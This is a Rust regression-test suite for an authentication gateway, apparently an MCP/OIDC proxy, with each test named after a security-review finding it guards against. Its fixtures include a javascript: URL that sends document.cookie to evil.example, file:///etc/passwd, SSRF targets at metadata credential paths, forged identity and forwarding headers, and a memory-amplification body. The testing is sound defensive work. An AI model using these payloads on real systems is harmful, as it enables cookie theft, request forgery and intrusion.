//! Regression tests for the edge findings of the security review (issue 13 items 4–9, 11,
//! 13–19; `../shared/review/REPORT.md` F4–F19), each named after the attack it stops, run
//! natively through `gateway::handle` with the fake ports of `tests/gateway_support`.
//!
//! This binary installs a counting allocator (per thread, so tests running in parallel do not
//! disturb each other's figures) for the memory bound of F15.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

mod gateway_support;

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;

use gateway::Decision;
use gateway_support::*;
use serde_json::{json, Value};

// ---------------------------------------------------------------------------------------------
// A per-thread counting allocator (F15).
// ---------------------------------------------------------------------------------------------

struct Counting;

thread_local! {
    static CURRENT: Cell<usize> = const { Cell::new(0) };
    static PEAK: Cell<usize> = const { Cell::new(0) };
}

// SAFETY: delegates to `System`; the bookkeeping touches only const-initialised thread-locals
// without destructors, which never allocate.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        let p = unsafe { System.alloc(layout) };
        if !p.is_null() {
            let _ = CURRENT.try_with(|c| {
                let now = c.get() + layout.size();
                c.set(now);
                let _ = PEAK.try_with(|peak| peak.set(peak.get().max(now)));
            });
        }
        p
    }
    unsafe fn dealloc(&self, p: *mut u8, layout: Layout) {
        unsafe { System.dealloc(p, layout) };
        let _ = CURRENT.try_with(|c| c.set(c.get().saturating_sub(layout.size())));
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

/// Runs `f` and returns its result with the peak heap (bytes above the starting level) it
/// reached on this thread.
fn peak_heap<T>(f: impl FnOnce() -> T) -> (T, usize) {
    let base = CURRENT.with(Cell::get);
    PEAK.with(|p| p.set(base));
    let out = f();
    (out, PEAK.with(Cell::get) - base)
}

// ---------------------------------------------------------------------------------------------
// helpers
// ---------------------------------------------------------------------------------------------

fn status(d: &Decision) -> u16 {
    match d {
        Decision::Forward(_) => 200,
        Decision::Respond(r) => r.status,
    }
}

fn oidc_world() -> World {
    let w = World::empty();
    w.set("auth_provider_type", "oidc");
    w.set("auth_provider_name", "idp");
    w.set("auth_provider_issuer", "https://idp.example.com");
    w.set("auth_provider_audience", RESOURCE);
    w
}

fn serve_discovery(w: &World, doc: Value) {
    w.serve(
        "https://idp.example.com/.well-known/openid-configuration",
        200,
        &doc.to_string(),
    );
}

fn idp_token(changes: Value) -> String {
    let mut c = claims_with(json!({"iss": "https://idp.example.com"}));
    for (k, v) in changes.as_object().unwrap() {
        c[k] = v.clone();
    }
    mint("rsa-2048", &c)
}

/// A configuration fault: 500 `server_error` whose log line names `variable`.
fn assert_config_fault(w: &World, variable: &str) {
    let r = w.respond(&mcp_post(&valid_token()));
    assert_eq!(r.status, 500, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(body_json(&r)["error"], "server_error");
    let log = w.last_log();
    assert_eq!(log["variable"], variable, "{log}");
    assert_eq!(log["level"], "error");
}

// ---------------------------------------------------------------------------------------------
// F4: underscore spellings of identity headers
// ---------------------------------------------------------------------------------------------

#[test]
fn underscore_spelled_x_auth_headers_never_reach_a_wsgi_upstream() {
    let w = World::authkit();
    // Without `sub`, the client's `x_auth_user_id` would be the only user id a CGI/WSGI
    // server (HTTP_X_AUTH_USER_ID) sees.
    let token = mint("rsa-2048", &claims_with(json!({"sub": null})));
    let plan = w.forward(
        &mcp_post(&token)
            .with("x_auth_user_id", "admin")
            .with("X_Auth_Scopes", "admin")
            .with("x-auth_provider", "internal")
            .with("mcp_session_id", "other")
            .with("x-custom_header", "v"),
    );
    let sent = sent_headers(&plan);
    assert!(
        sent.iter().all(|(n, _)| !n.contains('_')),
        "underscore header forwarded: {sent:?}"
    );
    assert!(sent_header(&plan, "x-auth-user-id").is_none());
    assert_eq!(sent_header(&plan, "x-auth-scopes").unwrap(), "read write");
}

// ---------------------------------------------------------------------------------------------
// F5: unreadable variables
// ---------------------------------------------------------------------------------------------

#[test]
fn unreadable_required_scopes_or_cors_variable_fails_closed_instead_of_opening() {
    for name in [
        "auth_provider_required_scopes",
        "auth_cors_allowed_origins",
        "auth_provider_audience",
        "auth_trust_forwarded_headers",
    ] {
        let w = World::authkit();
        w.set("auth_provider_required_scopes", "mcp:admin");
        w.set("auth_cors_allowed_origins", "https://app.example.com");
        w.make_unreadable(name);
        assert_config_fault(&w, name);
    }
    // Undefined (absent) is not an error: the same world without the failure answers 403.
    let w = World::authkit();
    w.set("auth_provider_required_scopes", "mcp:admin");
    assert_eq!(status(&w.handle(&mcp_post(&valid_token()))), 403);
}

// ---------------------------------------------------------------------------------------------
// F6: identities across providers
// ---------------------------------------------------------------------------------------------

fn two_idps(names: Option<(&str, &str)>) -> World {
    let w = World::empty();
    w.set("auth_resource_url", RESOURCE);
    for (slot, host, name) in [
        ("auth_provider_", "idp-a", names.map(|n| n.0)),
        ("auth_provider2_", "idp-b", names.map(|n| n.1)),
    ] {
        w.set(&format!("{slot}type"), "oidc");
        w.set(&format!("{slot}issuer"), &format!("https://{host}.example.com"));
        w.set(&format!("{slot}jwks_uri"), &format!("https://{host}.example.com/jwks"));
        if let Some(n) = name {
            w.set(&format!("{slot}name"), n);
        }
        w.serve(&format!("https://{host}.example.com/jwks"), 200, &jwks_json());
    }
    w
}

#[test]
fn same_sub_at_two_providers_yields_two_distinct_auth_contexts() {
    let w = two_idps(Some(("a", "b")));
    let ctx = |iss: &str, key: &str| {
        let token = mint(key, &claims_with(json!({"iss": iss, "sub": "1001"})));
        let plan = w.forward(&mcp_post(&token));
        assert_eq!(sent_header(&plan, "x-auth-issuer").unwrap(), iss);
        plan.auth_context().unwrap().to_value()
    };
    let a = ctx("https://idp-a.example.com", "rsa-2048");
    let b = ctx("https://idp-b.example.com", "ec-p256");
    assert_eq!(a["issuer"], "https://idp-a.example.com");
    assert_eq!(b["issuer"], "https://idp-b.example.com");
    assert_eq!(a["authenticated_user"], b["authenticated_user"]);
    assert_ne!(a, b);
}

#[test]
fn two_provider_slots_sharing_a_display_name_are_a_configuration_fault() {
    // Names default to the type: two `oidc` slots would both be "oidc" downstream.
    assert_config_fault(&two_idps(None), "auth_provider2_name");
    assert_config_fault(&two_idps(Some(("Corp", "corp"))), "auth_provider2_name");
}

// ---------------------------------------------------------------------------------------------
// F7: RFC 9728 document derived from request headers
// ---------------------------------------------------------------------------------------------

#[test]
fn forwarded_host_cannot_poison_a_shared_cache_of_resource_metadata() {
    let w = World::authkit();
    w.set("auth_resource_url", "");
    w.set("auth_provider_audience", RESOURCE);
    let r = w.respond(
        &request("GET", "/.well-known/oauth-protected-resource/mcp")
            .with("X-Forwarded-Host", "evil.example")
            .with("X-Forwarded-Proto", "http"),
    );
    assert_eq!(r.status, 200);
    // The derived document names what the client asked for, but only for that client.
    assert_eq!(body_json(&r)["resource"], "http://evil.example/mcp");
    let cc = r.header("cache-control").unwrap();
    assert!(cc.contains("private") && !cc.contains("public"), "{cc}");
    let vary = r.header("vary").unwrap().to_ascii_lowercase();
    for h in ["host", "x-forwarded-host", "x-forwarded-proto"] {
        assert!(vary.contains(h), "vary lacks {h}: {vary}");
    }
    // A configured resource does not depend on the request: publicly cacheable.
    let w = World::authkit();
    let r = w.respond(
        &request("GET", "/.well-known/oauth-protected-resource/mcp")
            .with("X-Forwarded-Host", "evil.example"),
    );
    assert_eq!(body_json(&r)["resource"], RESOURCE);
    assert_eq!(r.header("cache-control"), Some("public, max-age=300"));
}

// ---------------------------------------------------------------------------------------------
// F8: discovered endpoints
// ---------------------------------------------------------------------------------------------

#[test]
fn hostile_discovered_endpoints_are_not_republished_as_this_origins_metadata() {
    let w = oidc_world();
    serve_discovery(
        &w,
        json!({
            "issuer": "https://idp.example.com",
            "jwks_uri": "https://idp.example.com/jwks",
            "authorization_endpoint": "javascript:fetch('//evil.example/'+document.cookie)//",
            "token_endpoint": "http://evil.example/token",
            "registration_endpoint": "file:///etc/passwd",
            "revocation_endpoint": "https://user@evil.example/revoke",
            "userinfo_endpoint": "https://idp.example.com/userinfo",
            "introspection_endpoint": 7,
        }),
    );
    let r = w.respond(&request("GET", "/.well-known/oauth-authorization-server"));
    assert_eq!(r.status, 200);
    let doc = body_json(&r);
    for k in [
        "authorization_endpoint",
        "token_endpoint",
        "registration_endpoint",
        "revocation_endpoint",
        "introspection_endpoint",
    ] {
        assert!(doc.get(k).is_none(), "{k} republished: {}", doc[k]);
    }
    assert_eq!(doc["userinfo_endpoint"], "https://idp.example.com/userinfo");
    assert_eq!(doc["jwks_uri"], "https://idp.example.com/jwks");
    let log = w.last_log();
    assert!(log["warnings"]
        .as_array()
        .unwrap()
        .contains(&json!("discovered_endpoint_dropped")));
    assert!(log["details"]
        .as_array()
        .unwrap()
        .contains(&json!("authorization_endpoint")));
}

// ---------------------------------------------------------------------------------------------
// F9: ID tokens and token typing, per provider
// ---------------------------------------------------------------------------------------------

fn id_token_claims() -> Value {
    json!({
        "iss": ISSUER, "sub": "user_123", "aud": "spa-client", "azp": "spa-client",
        "exp": NOW + 3600, "iat": NOW - 10, "auth_time": NOW - 20,
        "nonce": "n-0S6_WzA2Mj", "at_hash": "77QmUPtjPfzWtF2AnpK9RQ"
    })
}

#[test]
fn leaked_id_token_is_refused_as_an_access_token_unless_the_provider_accepts_them() {
    let w = World::authkit();
    w.set("auth_provider_audience", &format!("{RESOURCE},spa-client"));
    for header in [json!({"typ": "JWT"}), json!({"typ": null})] {
        let token = mint_with("rsa-2048", header, &id_token_claims());
        let r = w.respond(&mcp_post(&token));
        assert_eq!(r.status, 401);
        assert!(r.header("www-authenticate").unwrap().contains("invalid_token"));
    }
    w.set("auth_provider_accept_id_tokens", "true");
    let token = mint_with("rsa-2048", json!({"typ": "JWT"}), &id_token_claims());
    assert_eq!(status(&w.handle(&mcp_post(&token))), 200);
}

#[test]
fn jwt_typed_token_is_refused_where_the_provider_requires_at_jwt() {
    let w = World::authkit();
    w.set("auth_provider_require_at_jwt", "true");
    let r = w.respond(&mcp_post(&valid_token()));
    assert_eq!(r.status, 401);
    let typed = mint_with("rsa-2048", json!({"typ": "at+jwt"}), &claims());
    assert_eq!(status(&w.handle(&mcp_post(&typed))), 200);
    // Slot 2 has its own switch.
    assert_eq!(
        gateway::variables::PROVIDER_SLOTS[1].require_at_jwt,
        "auth_provider2_require_at_jwt"
    );
}

// ---------------------------------------------------------------------------------------------
// F11 / F16: outbound fetch targets
// ---------------------------------------------------------------------------------------------

#[test]
fn discovered_jwks_uri_on_an_issuer_subdomain_or_other_port_is_never_fetched() {
    for target in [
        "https://metadata.internal.idp.example.com:8443/latest/credentials",
        "https://metadata.internal.idp.example.com/latest/credentials",
        "https://idp.example.com:8443/jwks",
    ] {
        let w = oidc_world();
        serve_discovery(&w, json!({"issuer": "https://idp.example.com", "jwks_uri": target}));
        w.serve(target, 200, &jwks_json());
        let d = w.handle(&mcp_post(&idp_token(json!({}))));
        assert_eq!(status(&d), 503, "{target}");
        assert_eq!(w.fetch_count(target), 0, "fetched {target}");
    }
    // `allowed_domains` widens it, explicitly.
    let w = oidc_world();
    w.set("auth_provider_allowed_domains", "idp.example.com");
    let target = "https://keys.idp.example.com/jwks";
    serve_discovery(&w, json!({"issuer": "https://idp.example.com", "jwks_uri": target}));
    w.serve(target, 200, &jwks_json());
    assert_eq!(status(&w.handle(&mcp_post(&idp_token(json!({}))))), 200);
    assert_eq!(w.fetch_count(target), 1);
}

#[test]
fn public_suffix_in_allowed_domains_is_a_configuration_fault() {
    for domains in ["com.", "co.uk", "github.io", "*.co.uk", "com"] {
        let w = World::authkit();
        w.set("auth_provider_allowed_domains", domains);
        assert_config_fault(&w, "auth_provider_allowed_domains");
    }
    // And `com.` no longer reaches a foreign host.
    let w = oidc_world();
    w.set("auth_provider_allowed_domains", "com.");
    serve_discovery(
        &w,
        json!({"issuer": "https://idp.example.com", "jwks_uri": "https://attacker.com./jwks"}),
    );
    let _ = w.handle(&mcp_post(&idp_token(json!({}))));
    assert_eq!(w.fetch_count("https://attacker.com./jwks"), 0);
}

// ---------------------------------------------------------------------------------------------
// F13: unverified e-mail
// ---------------------------------------------------------------------------------------------

#[test]
fn unverified_email_is_not_presented_as_the_users_identity() {
    let w = World::authkit();
    for verified in [json!(false), json!(null), json!("false")] {
        let token = mint(
            "rsa-2048",
            &claims_with(json!({"email": "ceo@victim.example", "email_verified": verified})),
        );
        let ctx = w.forward(&mcp_post(&token)).auth_context().unwrap().to_value();
        assert!(ctx["email"].is_null(), "{ctx}");
    }
    for verified in [json!(true), json!("true")] {
        let token = mint("rsa-2048", &claims_with(json!({"email_verified": verified})));
        let ctx = w.forward(&mcp_post(&token)).auth_context().unwrap().to_value();
        assert_eq!(ctx["email"], "user@example.com");
    }
    // A provider configured to trust its addresses forwards them regardless.
    w.set("auth_provider_trust_email", "true");
    let token = mint("rsa-2048", &claims_with(json!({"email_verified": null})));
    let ctx = w.forward(&mcp_post(&token)).auth_context().unwrap().to_value();
    assert_eq!(ctx["email"], "user@example.com");
}

// ---------------------------------------------------------------------------------------------
// F14: client proxy headers
// ---------------------------------------------------------------------------------------------

#[test]
fn client_forged_forwarding_headers_are_dropped_unless_a_trusted_proxy_is_declared() {
    let forged = [
        ("X-Forwarded-For", "127.0.0.1"),
        ("Forwarded", "for=10.0.0.1;host=admin.internal"),
        ("X-Real-IP", "10.0.0.1"),
        ("X-Forwarded-Host", "admin.internal"),
        ("X-Forwarded-Proto", "https"),
        ("True-Client-IP", "10.0.0.1"),
    ];
    let send = |w: &World| {
        let mut req = mcp_post(&valid_token());
        for (n, v) in forged {
            req = req.with(n, v);
        }
        sent_headers(&w.forward(&req))
    };
    let w = World::authkit();
    let sent = send(&w);
    for (n, _) in forged {
        let lower = n.to_ascii_lowercase();
        assert!(!sent.iter().any(|(s, _)| *s == lower), "{n} forwarded");
    }
    w.set("auth_trust_forwarded_headers", "true");
    let sent = send(&w);
    assert!(sent.contains(&("x-forwarded-for".into(), "127.0.0.1".into())));
    assert!(sent.contains(&("forwarded".into(), "for=10.0.0.1;host=admin.internal".into())));
}

// ---------------------------------------------------------------------------------------------
// F15: memory of the body parse
// ---------------------------------------------------------------------------------------------

/// `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"p":[{"":0},…]}}` of about `len`
/// bytes: one-member objects are the costliest shape to hold as `serde_json::Value`.
fn hostile_initialize(len: usize) -> String {
    let head = r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"p":["#;
    let unit = r#"{"":0},"#;
    let mut body = String::with_capacity(len);
    body.push_str(head);
    while body.len() + unit.len() + 9 <= len {
        body.push_str(unit);
    }
    body.push_str(r#"{"":0}]}}"#);
    body
}

#[test]
fn initialize_body_memory_amplification_is_bounded_by_the_inspect_limit() {
    let w = World::authkit();
    let plan = w.forward(&mcp_post(&valid_token()));
    // 4 MiB (the body cap): refused before any parse, at no memory cost.
    let big = hostile_initialize(gateway::auth_context::MAX_PARSE_BYTES);
    let (out, peak) = peak_heap(|| plan.upstream_body(big.as_bytes(), true));
    let refused = out.unwrap_err();
    assert_eq!(refused.response.status, 413);
    assert_eq!(refused.reason, "request_body_too_large_to_inspect");
    assert!(peak < 64 * 1024, "refusal took {peak} bytes");
    // At the limit (256 KiB): parsed, within the documented ~110× of the limit.
    let limit = gateway::config::DEFAULT_MAX_INSPECT_BYTES;
    let at_limit = hostile_initialize(limit);
    assert!(at_limit.len() <= limit);
    let (out, peak) = peak_heap(|| plan.upstream_body(at_limit.as_bytes(), true));
    assert!(out.unwrap().is_some());
    eprintln!(
        "hostile initialize of {} bytes: peak heap {} KiB ({:.0}x)",
        at_limit.len(),
        peak / 1024,
        peak as f64 / at_limit.len() as f64
    );
    assert!(peak <= 128 * limit, "peak {peak} bytes for a {limit}-byte limit");
    // A large body that needs no parse still passes untouched.
    let plain = format!(
        r#"{{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{{"name":"t","arguments":{{"a":"{}"}}}}}}"#,
        "x".repeat(2 * 1024 * 1024)
    );
    assert_eq!(plan.upstream_body(plain.as_bytes(), true).unwrap(), None);
}

// ---------------------------------------------------------------------------------------------
// F17 / F18 / F19 (info items)
// ---------------------------------------------------------------------------------------------

#[test]
fn cookie_and_query_string_access_token_never_reach_the_upstream() {
    let w = World::authkit();
    let token = valid_token();
    for query in [
        format!("access_token={token}&tenant=a"),
        format!("tenant=a&ACCESS%5Ftoken={token}"),
        format!("tenant=a&x=1;access_token={token}"),
    ] {
        let mut req = mcp_post(&token).with("Cookie", "session=abc");
        req.path_and_query = format!("/mcp?{query}");
        let plan = w.forward(&req);
        assert!(!plan.path_and_query.contains(&token), "{}", plan.path_and_query);
        assert!(plan.path_and_query.contains("tenant=a"), "{}", plan.path_and_query);
        assert!(sent_header(&plan, "cookie").is_none());
    }
}

#[test]
fn joined_session_is_forwarded_with_the_callers_own_issuer_qualified_identity() {
    // The gateway does not bind `Mcp-Session-Id` to an identity (README: the MCP server must,
    // by (x-auth-issuer, x-auth-user-id)); what it guarantees is that every request, not only
    // `initialize`, carries the caller's verified identity, never the session creator's.
    let w = World::authkit();
    let as_user = |sub: &str| {
        w.forward(
            &mcp_post(&mint("rsa-2048", &claims_with(json!({"sub": sub}))))
                .with("Mcp-Session-Id", "sess-of-alice"),
        )
    };
    let alice = as_user("alice");
    let mallory = as_user("mallory");
    assert_eq!(sent_header(&alice, "x-auth-user-id").unwrap(), "alice");
    assert_eq!(sent_header(&mallory, "x-auth-user-id").unwrap(), "mallory");
    assert_eq!(sent_header(&mallory, "x-auth-issuer").unwrap(), ISSUER);
    assert_eq!(sent_header(&mallory, "mcp-session-id").unwrap(), "sess-of-alice");
}

#[test]
fn forged_auth_context_in_nested_batch_or_positional_params_is_refused_or_stripped() {
    let w = World::authkit();
    let plan = w.forward(&mcp_post(&valid_token()));
    let forged = r#"{"authenticated_user":"admin"}"#;
    // Not JSON-RPC this gateway can vouch for: refused with -32600.
    for body in [
        format!(r#"[[{{"jsonrpc":"2.0","id":1,"method":"initialize","params":{{"_authContext":{forged}}}}}]]"#),
        format!(r#"{{"jsonrpc":"2.0","id":1,"method":"initialize","params":[{{"_authContext":{forged}}}]}}"#),
    ] {
        let refused = plan.upstream_body(body.as_bytes(), true).unwrap_err();
        assert_eq!(refused.response.status, 400, "{body}");
        let v: Value = serde_json::from_slice(&refused.response.body).unwrap();
        assert_eq!(v["error"]["code"], -32600);
    }
    // Stripped: positional params of other methods, and `params._meta`.
    for body in [
        format!(r#"{{"jsonrpc":"2.0","id":1,"method":"x","params":[{{"_authContext":{forged}}}]}}"#),
        format!(r#"{{"jsonrpc":"2.0","id":1,"method":"initialize","params":{{"_meta":{{"_authContext":{forged}}}}}}}"#),
    ] {
        let out = plan.upstream_body(body.as_bytes(), true).unwrap().unwrap();
        assert!(!String::from_utf8(out).unwrap().contains("\"admin\""), "{body}");
    }
}
